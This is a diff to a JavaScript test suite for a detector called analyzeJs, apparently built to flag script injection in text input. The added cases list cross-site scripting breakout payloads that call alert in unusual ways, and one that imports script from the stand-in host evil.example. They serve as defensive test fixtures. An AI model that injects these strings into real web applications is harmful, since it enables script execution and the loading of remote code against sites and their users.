@@ -31,9 +31,25 @@ describe('analyzeJs', () => {
     'f(x) = x^2 + 1',
     "It's 5 o'clock; call me (maybe)",
     'price >= 10 && price <= 20',
+    'Import (CSV) settings, then open (24h)',
+    'const m = await loader.import("./x.js")',
+    'x = alerts; y = evaluation',
   ])('leaves prose alone: %s', (s) => {
     const m = analyzeJs(s);
     expect(m === null || m.confidence < 0.5).toBe(true);
+  });
+
+  it.each([
+    ["';window.onerror=alert;throw 1//", 'js:breakout:alert'],
+    ["';throw onerror=alert,1//", 'js:breakout:alert'],
+    ['"-alert?.(1)-"', 'js:breakout:alert'],
+    ["';alert.apply(null,[1])//", 'js:breakout:alert'],
+    ["';alert.call(null,1)//", 'js:breakout:alert'],
+    ['"-import(\'//evil.example/x.js\')-"', 'js:breakout:import'],
+  ])('follows less common call forms: %s', (s, rule) => {
+    const m = analyzeJs(s);
+    expect(m?.rule).toBe(rule);
+    expect(m!.confidence).toBeGreaterThanOrEqual(0.5);
   });
 
   it('looksLikeScript tells code from text', () => {
